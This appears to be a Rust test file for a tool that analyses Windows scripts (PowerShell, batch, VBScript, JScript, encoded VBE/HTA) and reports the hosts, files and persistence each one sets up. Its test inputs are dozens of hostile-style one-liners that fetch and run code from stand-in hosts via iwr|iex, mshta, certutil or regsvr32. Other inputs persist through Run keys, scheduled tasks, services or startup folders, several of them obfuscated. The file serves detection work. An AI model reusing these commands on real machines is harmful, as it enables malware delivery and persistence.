//! Single constructs: what a script fetches, writes, starts, and how it starts again.

use super::*;
use expect_test::expect;

/// Each script with what it comes to; a line without a mark is the innermost script.
#[track_caller]
fn check(extension: &str, scripts: &[&str], expected: Expect) {
    let mut out = String::new();
    for script in scripts {
        let parsed = if extension.is_empty() {
            let parsed = read_command(script, &Limits::desk());
            Parsed {
                value: Survey { commands: vec![parsed.value], ..Survey::default() },
                problems: parsed.problems,
            }
        } else {
            survey_file(&format!("x.{extension}"), script, &Limits::desk())
        };
        writeln!(out, "-- {}", url::defang_text(script).replace(['\r', '\n'], " ")).unwrap();
        for command in &parsed.value.commands {
            told(&mut out, command);
        }
        for problem in &parsed.problems {
            writeln!(out, "{:?} {}", problem.kind, problem.detail).unwrap();
        }
    }
    expected.assert_eq(&out);
}

fn told(out: &mut String, command: &Command) {
    let hidden = if command.hidden { " hidden" } else { "" };
    let layers = command.layers.join(", ");
    writeln!(out, "{} {:?}{hidden} [{layers}]", command.place, command.interpreter).unwrap();
    for (mark, items) in
        [("host", &command.hosts), ("file", &command.files), ("starts again:", &command.persistence)]
    {
        for item in items {
            writeln!(out, "  {mark} {}", url::defang_text(item)).unwrap();
        }
    }
    for found in &command.urls {
        writeln!(out, "  url {}", url::defang(&found.text)).unwrap();
    }
}

#[test]
fn hosts_are_told_as_they_are_contacted() {
    check(
        "",
        &[
            "mshta http://0xC0000207/a",
            "curl http://3221225991/a -o b.txt",
            "iwr http://0300.0.2.7/a",
            "powershell iwr http://192.0.519/a",
            "certutil -urlcache -f http://%77%77%77.a.example/a b.txt",
            "$c=New-Object Net.Sockets.TCPClient('0xC0000207',443)",
            "iwr http://EXAMPLE。example/a",
        ],
        expect![[r#"
            -- mshta hxxp://0xC0000207/a
            text SystemBinary []
              host 192.0.2.7
              url hxxp://0xC0000207/a
            -- curl hxxp://3221225991/a -o b.txt
            text SystemBinary []
              host 192.0.2.7
              file b.txt
              url hxxp://3221225991/a
            -- iwr hxxp://0300[.]0[.]2[.]7/a
            text Other []
              host 192.0.2.7
              url hxxp://0300[.]0[.]2[.]7/a
            -- powershell iwr hxxp://192[.]0[.]519/a
            text PowerShell []
              host 192.0.2.7
              url hxxp://192[.]0[.]519/a
            -- certutil -urlcache -f hxxp://%77%77%77[.]a[.]example/a b.txt
            text SystemBinary []
              host www.a.example
              file b.txt
              url hxxp://%77%77%77[.]a[.]example/a
            -- $c=New-Object Net.Sockets.TCPClient('0xC0000207',443)
            text Other []
              host 192.0.2.7
            -- iwr hxxp://EXAMPLE。example/a
            text Other []
              host example.example
              url hxxp://EXAMPLE。example/a
        "#]],
    );
}

#[test]
fn powershell_stays() {
    check(
        "ps1",
        &[
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Upd' -Value 'C:\\a.exe'",
            "$k='HKCU:\\Software\\Microsoft\\Windows\\Current'+'Version\\Run';New-ItemProperty $k u -Value \"powershell -e $x\"",
            "$a=New-ScheduledTaskAction -Execute 'mshta' -Argument 'http://a.example/t';Register-ScheduledTask -TaskName T -Action $a",
            "schtasks /create /tn T /sc minute /tr \"powershell -w hidden iwr http://a.example/t|iex\"",
            "New-Service -Name S -BinaryPathName 'C:\\s.exe'",
            "sc.exe create S binPath= C:\\s.exe",
            "Copy-Item a.vbs \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs\"",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\a.exe",
        ],
        expect![[r#"
            -- Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Upd' -Value 'C:\a.exe'
            text PowerShell []
              starts again: registry: HKCU:\Software\Microsoft\Windows\CurrentVersion\Run\Upd = C:\a.exe
            -- $k='HKCU:\Software\Microsoft\Windows\Current'+'Version\Run';New-ItemProperty $k u -Value "powershell -e $x"
            text PowerShell []
              starts again: registry: HKCU:\Software\Microsoft\Windows\CurrentVersion\Run\u = powershell -e …
            -- $a=New-ScheduledTaskAction -Execute 'mshta' -Argument 'hxxp://a[.]example/t';Register-ScheduledTask -TaskName T -Action $a
            text PowerShell []
              host a.example
              starts again: scheduled task: T = mshta hxxp://a[.]example/t
              url hxxp://a[.]example/t
            -- schtasks /create /tn T /sc minute /tr "powershell -w hidden iwr hxxp://a[.]example/t|iex"
            text PowerShell hidden []
              host a.example
              starts again: scheduled task: T = powershell -w hidden iwr hxxp://a[.]example/t|iex
              url hxxp://a[.]example/t
            -- New-Service -Name S -BinaryPathName 'C:\s.exe'
            text PowerShell []
              starts again: service: S = C:\s.exe
            -- sc.exe create S binPath= C:\s.exe
            text PowerShell []
              starts again: service: S = C:\s.exe
            -- Copy-Item a.vbs "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs"
            text PowerShell []
              file %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs
              starts again: startup folder: %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs
            -- reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\a.exe
            text PowerShell []
              starts again: registry: HKCU\Software\Microsoft\Windows\CurrentVersion\Run\u = C:\a.exe
        "#]],
    );
}

#[test]
fn powershell_starts() {
    check(
        "ps1",
        &[
            "Start-Process powershell -ArgumentList '-w hidden -c \"iwr http://a.example/1\"' -WindowStyle Hidden",
            "([wmiclass]'Win32_Process').Create('mshta http://a.example/2')",
            "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'mshta http://a.example/3'",
            "(New-Object -ComObject WScript.Shell).Run('mshta http://a.example/4',0)",
            "cmd /c \"curl http://a.example/5 -o C:\\5.dll && rundll32 C:\\5.dll,Run\"",
            "[Diagnostics.Process]::Start('regsvr32','/s /i:http://a.example/6 scrobj.dll')",
            "rundll32 \"$env:TEMP\\7.dll\",DllRegisterServer",
        ],
        expect![[r#"
            -- Start-Process powershell -ArgumentList '-w hidden -c "iwr hxxp://a[.]example/1"' -WindowStyle Hidden
            text PowerShell hidden []
              host a.example
              url hxxp://a[.]example/1
            -- ([wmiclass]'Win32_Process').Create('mshta hxxp://a[.]example/2')
            text PowerShell []
              host a.example
              url hxxp://a[.]example/2
            -- Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'mshta hxxp://a[.]example/3'
            text PowerShell []
              host a.example
              url hxxp://a[.]example/3
            -- (New-Object -ComObject WScript.Shell).Run('mshta hxxp://a[.]example/4',0)
            text PowerShell hidden []
              host a.example
              url hxxp://a[.]example/4
            -- cmd /c "curl hxxp://a[.]example/5 -o C:\5.dll && rundll32 C:\5.dll,Run"
            text PowerShell []
              host a.example
              file C:\5.dll
              url hxxp://a[.]example/5
            -- [Diagnostics.Process]::Start('regsvr32','/s /i:hxxp://a[.]example/6 scrobj.dll')
            text PowerShell []
              host a.example
              url hxxp://a[.]example/6
            -- rundll32 "$env:TEMP\7.dll",DllRegisterServer
            text PowerShell []
              file %TEMP%\7.dll
        "#]],
    );
}

#[test]
fn powershell_flow() {
    check(
        "ps1",
        &[
            "if($env:USERNAME -eq 'x'){iwr http://a.example/yes}else{iwr http://a.example/no}",
            "if(1 -gt 2){iwr http://a.example/never}else{iwr http://a.example/1}",
            "foreach($u in 'http://a.example/1','http://b.example/2'){try{iwr $u -OutFile C:\\x.exe;break}catch{}}",
            "1..3|%{iwr \"http://a.example/$_\"}",
            "switch('b'){'a'{iwr http://a.example/a}'b'{iwr http://a.example/b}}",
            "$h=@{u='http://a.example/';p='h'};iwr ($h.u+$h['p'])",
            "function f($a,$b='x'){\"http://$a.example/$b\"};iwr (f -a c)",
            "$s=ConvertTo-SecureString $t -Key (1..16);iex $s",
            "while($true){iwr http://a.example/loop;Start-Sleep 5}",
        ],
        expect![[r#"
            -- if($env:USERNAME -eq 'x'){iwr hxxp://a[.]example/yes}else{iwr hxxp://a[.]example/no}
            text PowerShell []
              host a.example
              url hxxp://a[.]example/yes
              url hxxp://a[.]example/no
            -- if(1 -gt 2){iwr hxxp://a[.]example/never}else{iwr hxxp://a[.]example/1}
            text PowerShell []
              host a.example
              url hxxp://a[.]example/1
              url hxxp://a[.]example/never
            -- foreach($u in 'hxxp://a[.]example/1','hxxp://b[.]example/2'){try{iwr $u -OutFile C:\x.exe;break}catch{}}
            text PowerShell []
              host a.example
              host b.example
              file C:\x.exe
              url hxxp://a[.]example/1
              url hxxp://b[.]example/2
            -- 1..3|%{iwr "hxxp://a[.]example/$_"}
            text PowerShell []
              host a.example
              url hxxp://a[.]example/1
              url hxxp://a[.]example/2
              url hxxp://a[.]example/3
            -- switch('b'){'a'{iwr hxxp://a[.]example/a}'b'{iwr hxxp://a[.]example/b}}
            text PowerShell []
              host a.example
              url hxxp://a[.]example/b
              url hxxp://a[.]example/a
            -- $h=@{u='hxxp://a[.]example/';p='h'};iwr ($h.u+$h['p'])
            text PowerShell []
              host a.example
              url hxxp://a[.]example/h
            -- function f($a,$b='x'){"hxxp://$a[.]example/$b"};iwr (f -a c)
            text PowerShell [variables]
              host c.example
              url hxxp://c[.]example/x
            -- $s=ConvertTo-SecureString $t -Key (1..16);iex $s
            text PowerShell []
            Unsupported the text of a SecureString is not followed
            -- while($true){iwr hxxp://a[.]example/loop;Start-Sleep 5}
            text PowerShell []
              host a.example
              url hxxp://a[.]example/loop
        "#]],
    );
}

#[test]
fn a_secure_string_with_its_key_is_opened() {
    // Sealed by another program: AES-128 in CBC mode, the key one to sixteen.
    let sealed = "76492d1116743f0423413b16050a5345MgB8AEIAdwBjAEgAQgB3AGMASABCAHcAYwBIAEIAdwBjAEgAQgB3AGMASABCAHcAPQA9AHw\
        ANAA3ADcAYQA1AGUAMAAxAGEAZAA4AGMAOABmADcANQA0AGQANwBiADcAMAA4AGEAYQA4AGEAZgBmADIAZAA5ADUANwA5AGYANQA5AGMANwAwAD\
        MANABkAGUAYgAyADMANQA2AGMAMAA1AGMAMwA0ADgAOABiADQAYgA5AGEANAA0AGIAMwA2AGMANQA1ADcAMwA4ADAAOAA4AGQANwA0ADYAZgA1A\
        DMAZgA0AGEAYgAzADcAMwA3ADIAZgBmAGEANgA0ADQAYgAwAGMAMAAwADQANgAyADAAZAAxADUAMQA3AGQAZQBjADUAMwBjADAAYQBjADQAZQAx\
        ADEAYwA0AA==";
    let open = |key: &str| {
        let script = format!(
            "$s=ConvertTo-SecureString '{sealed}' -Key {key};\
             iex([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"
        );
        survey_file("x.ps1", &script, &Limits::desk())
    };
    let parsed = open("(1..16)");
    assert_eq!(parsed.problems, []);
    let command = &parsed.value.commands[0];
    assert_eq!(command.script, "iwr http://a.example/sealed");
    assert!(command.layers.iter().any(|layer| layer == "SecureString"), "{:?}", command.layers);
    assert!(open("(2..17)").problems.iter().any(|problem| problem.kind == crate::ProblemKind::Unsupported));
}

#[test]
fn shells_in_shells() {
    check(
        "",
        &[
            "cmd /c start /min \"\" powershell -w hidden -c \"iwr http://a.example/1\"",
            "cmd.exe /s /c start /b cmd /c \"mshta http://a.example/2\"",
            "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c mshta http://a.example/3\"",
            "wmic process call create \"powershell iwr http://a.example/4\"",
            "cmd /c \"powershell -c \\\"& {iwr 'http://a.example/5' -OutFile C:\\5.exe; Start-Process C:\\5.exe}\\\"\"",
            "cmd /c \"for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM')do %a iwr http://a.example/6\"",
            "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell iwr http://a.example/7\"\",0:close\")",
            "mshta javascript:a=GetObject('script:http://a.example/8.sct').Exec();close()",
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";new ActiveXObject('WScript.Shell').Run('curl http://a.example/9')",
            "echo iwr http://a.example/10|powershell -",
            "conhost --headless powershell iwr http://a.example/11",
        ],
        expect![[r#"
            -- cmd /c start /min "" powershell -w hidden -c "iwr hxxp://a[.]example/1"
            text PowerShell hidden []
              host a.example
              url hxxp://a[.]example/1
            -- cmd.exe /s /c start /b cmd /c "mshta hxxp://a[.]example/2"
            text SystemBinary [cmd variables]
              host a.example
              url hxxp://a[.]example/2
            -- forfiles /p c:\windows /m notepad.exe /c "cmd /c mshta hxxp://a[.]example/3"
            text SystemBinary [cmd variables]
              host a.example
              url hxxp://a[.]example/3
            -- wmic process call create "powershell iwr hxxp://a[.]example/4"
            text PowerShell []
              host a.example
              url hxxp://a[.]example/4
            -- cmd /c "powershell -c \"& {iwr 'hxxp://a[.]example/5' -OutFile C:\5.exe; Start-Process C:\5.exe}\""
            text PowerShell []
              host a.example
              url hxxp://a[.]example/5
            -- cmd /c "for /f "delims=s\ tokens=4" %a in ('set^|findstr PSM')do %a iwr hxxp://a[.]example/6"
            text PowerShell [caret escapes, cmd loop]
              host a.example
              url hxxp://a[.]example/6
            -- mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell iwr hxxp://a[.]example/7"",0:close")
            text PowerShell hidden [inline VBScript]
              host a.example
              url hxxp://a[.]example/7
            -- mshta javascript:a=GetObject('script:hxxp://a[.]example/8.sct').Exec();close()
            text SystemBinary [inline JScript]
              host a.example
              url hxxp://a[.]example/8.sct
            -- rundll32 javascript:"\..\mshtml,RunHTMLApplication ";new ActiveXObject('WScript.Shell').Run('curl hxxp://a[.]example/9')
            text SystemBinary [inline JScript]
              host a.example
              url hxxp://a[.]example/9
            -- echo iwr hxxp://a[.]example/10|powershell -
            text PowerShell [cmd variables]
              host a.example
              url hxxp://a[.]example/10
            -- conhost --headless powershell iwr hxxp://a[.]example/11
            text PowerShell []
              host a.example
              url hxxp://a[.]example/11
        "#]],
    );
}

#[test]
fn batch_constructs() {
    check(
        "bat",
        &[
            "@echo off\r\nif not exist a.txt (\r\n  curl http://a.example/1 -o a.txt\r\n) else (\r\n  echo done\r\n)",
            "set /a n=2*3+1\r\ncurl http://a.example/%n%",
            "for %%u in (http://a.example/2 http://b.example/2) do curl -O %%u",
            "copy %0 \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat\"",
            "echo Set s = CreateObject(\"WScript.Shell\") > a.vbs\r\necho s.Run \"mshta http://a.example/w\" >> a.vbs\r\ncscript //nologo a.vbs",
            "rem powershell -e AAAA\r\n:: mshta http://a.example/no\r\necho powershell is fun",
            "setlocal enabledelayedexpansion\r\nset u=!undefined!http://a.example/3\r\ncurl !u!",
        ],
        expect![[r#"
            -- @echo off  if not exist a.txt (    curl hxxp://a[.]example/1 -o a.txt  ) else (    echo done  )
            text:2 SystemBinary []
              host a.example
              file a.txt
              url hxxp://a[.]example/1
            -- set /a n=2*3+1  curl hxxp://a[.]example/%n%
            text:2 SystemBinary []
              host a.example
              url hxxp://a[.]example/7
            -- for %%u in (hxxp://a[.]example/2 hxxp://b[.]example/2) do curl -O %%u
            text:1 SystemBinary []
              host a.example
              file hxxp://a[.]example/2
              url hxxp://a[.]example/2
            text:1 SystemBinary []
              host b.example
              file hxxp://b[.]example/2
              url hxxp://b[.]example/2
            -- copy %0 "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat"
            text:1 Other []
              file %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat
              starts again: startup folder: %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat
            -- echo Set s = CreateObject("WScript.Shell") > a.vbs  echo s.Run "mshta hxxp://a[.]example/w" >> a.vbs  cscript //nologo a.vbs
            text:3 ScriptHost []
              file a.vbs
            text SystemBinary [written file]
              host a.example
              url hxxp://a[.]example/w
            -- rem powershell -e AAAA  :: mshta hxxp://a[.]example/no  echo powershell is fun
            -- setlocal enabledelayedexpansion  set u=!undefined!hxxp://a[.]example/3  curl !u!
            text:3 SystemBinary []
              host a.example
              url hxxp://a[.]example/3
        "#]],
    );
}

#[test]
fn the_script_host_starts_and_stays() {
    check(
        "vbs",
        &[
            "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"mshta http://a.example/1\", 0\ns.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\", WScript.ScriptFullName",
            "GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"powershell iwr http://a.example/2\", Null, Null, p",
            "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"http://a.example/3\", \"\", \"open\", 0",
            "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\4.bat\")\nf.WriteLine \"mshta http://a.example/4\"\nf.Close",
            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"k\", \"mshta http://a.example/5\"\nCreateObject(\"WScript.Shell\").Run d(\"k\")",
            "Set r = New RegExp : r.Pattern = \"q\" : r.Global = True\nCreateObject(\"WScript.Shell\").Run r.Replace(\"mqshtaq http://a.example/6\", \"\")",
            "Dim a(1)\na(0) = \"mshta \" : a(1) = \"http://a.example/7\"\nCreateObject(\"WScript.Shell\").Run Join(a, \"\")",
            "If WScript.Arguments.Count = 0 Then x = \"8\" Else x = \"9\"\nCreateObject(\"WScript.Shell\").Run \"mshta http://a.example/\" & x",
            "Set w = CreateObject(\"WScript.Shell\")\nSet l = w.CreateShortcut(w.SpecialFolders(\"Startup\") & \"\\a.lnk\")\nl.TargetPath = \"mshta.exe\"\nl.Save",
        ],
        expect![[r#"
            -- Set s = CreateObject("WScript.Shell") s.Run "mshta hxxp://a[.]example/1", 0 s.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\u", WScript.ScriptFullName
            text ScriptHost []
              starts again: registry: HKCU\Software\Microsoft\Windows\CurrentVersion\Run\u = %SCRIPT%
            text:2 SystemBinary hidden []
              host a.example
              url hxxp://a[.]example/1
            -- GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create "powershell iwr hxxp://a[.]example/2", Null, Null, p
            text:1 PowerShell []
              host a.example
              url hxxp://a[.]example/2
            -- CreateObject("Shell.Application").ShellExecute "mshta", "hxxp://a[.]example/3", "", "open", 0
            text:1 SystemBinary hidden []
              host a.example
              url hxxp://a[.]example/3
            -- Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\4.bat") f.WriteLine "mshta hxxp://a[.]example/4" f.Close
            text ScriptHost []
              file C:\4.bat
            text:2 SystemBinary [written file]
              host a.example
              url hxxp://a[.]example/4
            -- Set d = CreateObject("Scripting.Dictionary") d.Add "k", "mshta hxxp://a[.]example/5" CreateObject("WScript.Shell").Run d("k")
            text:3 SystemBinary []
              host a.example
              url hxxp://a[.]example/5
            -- Set r = New RegExp : r.Pattern = "q" : r.Global = True CreateObject("WScript.Shell").Run r.Replace("mqshtaq hxxp://a[.]example/6", "")
            text:2 SystemBinary [replace]
              host a.example
              url hxxp://a[.]example/6
            -- Dim a(1) a(0) = "mshta " : a(1) = "hxxp://a[.]example/7" CreateObject("WScript.Shell").Run Join(a, "")
            text:3 SystemBinary []
              host a.example
              url hxxp://a[.]example/7
            -- If WScript.Arguments.Count = 0 Then x = "8" Else x = "9" CreateObject("WScript.Shell").Run "mshta hxxp://a[.]example/" & x
            text:2 SystemBinary []
              host a.example
              url hxxp://a[.]example/9
            -- Set w = CreateObject("WScript.Shell") Set l = w.CreateShortcut(w.SpecialFolders("Startup") & "\a.lnk") l.TargetPath = "mshta.exe" l.Save
            text ScriptHost []
              file %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk
              starts again: startup folder: %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk
            text:3 SystemBinary []
        "#]],
    );
}

#[test]
fn the_script_host_runs_jscript() {
    check(
        "js",
        &[
            "var s=new ActiveXObject('WScript.Shell');s['R'+'un']('cmd /c mshta http://a.example/1',0)",
            "var t=WScript;t.CreateObject('Shell.Application').ShellExecute('mshta','http://a.example/2','','open',0)",
            "(function(a,b){a.Run(b)})(new ActiveXObject('WScript.Shell'),['mshta ','http://a.example/3'].join(''))",
            "var o={};o.f=function(x){return x.split('|').map(function(c){return String.fromCharCode(+c)}).join('')};new ActiveXObject('WScript.Shell').Run('mshta http://a.example/'+o.f('52|52'))",
            "try{x.y()}catch(e){new ActiveXObject('WScript.Shell').Run('mshta http://a.example/5')}",
            "try{throw 'mshta http://a.example/t'}catch(e){new ActiveXObject('WScript.Shell').Run(e)}",
            "/*@cc_on eval('new ActiveXObject(\"WScript.Shell\").Run(\"mshta http://a.example/6\")') @*/",
            "var i=0;while(i<3){i++;if(i==2)continue;new ActiveXObject('WScript.Shell').Run('mshta http://a.example/'+i)}",
            "setTimeout(\"new ActiveXObject('WScript.Shell').Run('mshta http://a.example/8')\",1)",
        ],
        expect![[r#"
            -- var s=new ActiveXObject('WScript.Shell');s['R'+'un']('cmd /c mshta hxxp://a[.]example/1',0)
            text:1 Cmd hidden []
              host a.example
              url hxxp://a[.]example/1
            -- var t=WScript;t.CreateObject('Shell.Application').ShellExecute('mshta','hxxp://a[.]example/2','','open',0)
            text:1 SystemBinary hidden []
              host a.example
              url hxxp://a[.]example/2
            -- (function(a,b){a.Run(b)})(new ActiveXObject('WScript.Shell'),['mshta ','hxxp://a[.]example/3'].join(''))
            text:1 SystemBinary []
              host a.example
              url hxxp://a[.]example/3
            -- var o={};o.f=function(x){return x.split('|').map(function(c){return String.fromCharCode(+c)}).join('')};new ActiveXObject('WScript.Shell').Run('mshta hxxp://a[.]example/'+o.f('52|52'))
            text:1 SystemBinary [split, character codes, join, concatenation]
              host a.example
              url hxxp://a[.]example/44
            -- try{x.y()}catch(e){new ActiveXObject('WScript.Shell').Run('mshta hxxp://a[.]example/5')}
            text:1 SystemBinary []
              host a.example
              url hxxp://a[.]example/5
            -- try{throw 'mshta hxxp://a[.]example/t'}catch(e){new ActiveXObject('WScript.Shell').Run(e)}
            text:1 SystemBinary []
              host a.example
              url hxxp://a[.]example/t
            -- /*@cc_on eval('new ActiveXObject("WScript.Shell").Run("mshta hxxp://a[.]example/6")') @*/
            text:1 SystemBinary [eval]
              host a.example
              url hxxp://a[.]example/6
            -- var i=0;while(i<3){i++;if(i==2)continue;new ActiveXObject('WScript.Shell').Run('mshta hxxp://a[.]example/'+i)}
            text:1 SystemBinary []
              host a.example
              url hxxp://a[.]example/1
            text:1 SystemBinary []
              host a.example
              url hxxp://a[.]example/3
            -- setTimeout("new ActiveXObject('WScript.Shell').Run('mshta hxxp://a[.]example/8')",1)
            text:1 SystemBinary [eval]
              host a.example
              url hxxp://a[.]example/8
        "#]],
    );
}

/// A text as the script encoder leaves it, found by trying what each character decodes to.
fn screnc(text: &str) -> String {
    let framed = |inside: &str| format!("#@~^AAAAAA=={inside}AAAAAA==^#~@");
    let mut out = String::new();
    let mut plain = String::new();
    for c in text.chars() {
        plain.push(c);
        let escaped = match c {
            '<' => Some("@!"),
            '>' => Some("@*"),
            '@' => Some("@$"),
            '\r' => Some("@#"),
            '\n' => Some("@&"),
            _ => None,
        };
        let fits = |piece: &str| vbs::decoded(&framed(&format!("{out}{piece}")), &Limits::desk());
        let piece = escaped.map(str::to_owned).or_else(|| {
            let tried = (9..128u8).map(char::from).filter(|c| !"<>@\r\n".contains(*c)).map(String::from);
            tried.into_iter().find(|piece| fits(piece).as_deref() == Some(plain.as_str()))
        });
        out.push_str(&piece.unwrap_or_else(|| panic!("{c:?} has no code")));
    }
    framed(&out)
}

#[test]
fn encoded_scripts_are_decoded() {
    let script = screnc("CreateObject(\"WScript.Shell\").Run \"mshta http://a.example/<1>\", 0");
    let parsed = survey_file("x.vbe", &script, &Limits::desk());
    assert_eq!(parsed.problems, []);
    let command = &parsed.value.commands[0];
    assert_eq!(command.text, "mshta http://a.example/<1>");
    assert_eq!(command.layers, ["Script Encoder"]);
    // The operation of that name, which is held against the original, decodes it the same.
    let recipe = crate::decode::Recipe::parse("Microsoft_Script_Decoder()").unwrap();
    let baked = recipe.bake(script.as_bytes(), &Limits::desk()).unwrap();
    assert_eq!(vbs::decoded(&script, &Limits::desk()).unwrap().into_bytes(), baked.bytes);
    let page = format!(
        "<script language=\"JScript.Encode\">{}</script>",
        screnc("eval('new ActiveXObject(\"WScript.Shell\").Run(\"mshta http://a.example/2\")')")
    );
    let parsed = survey_file("x.hta", &page, &Limits::desk());
    assert!(parsed.value.commands.iter().any(|command| command.text == "mshta http://a.example/2"));
}
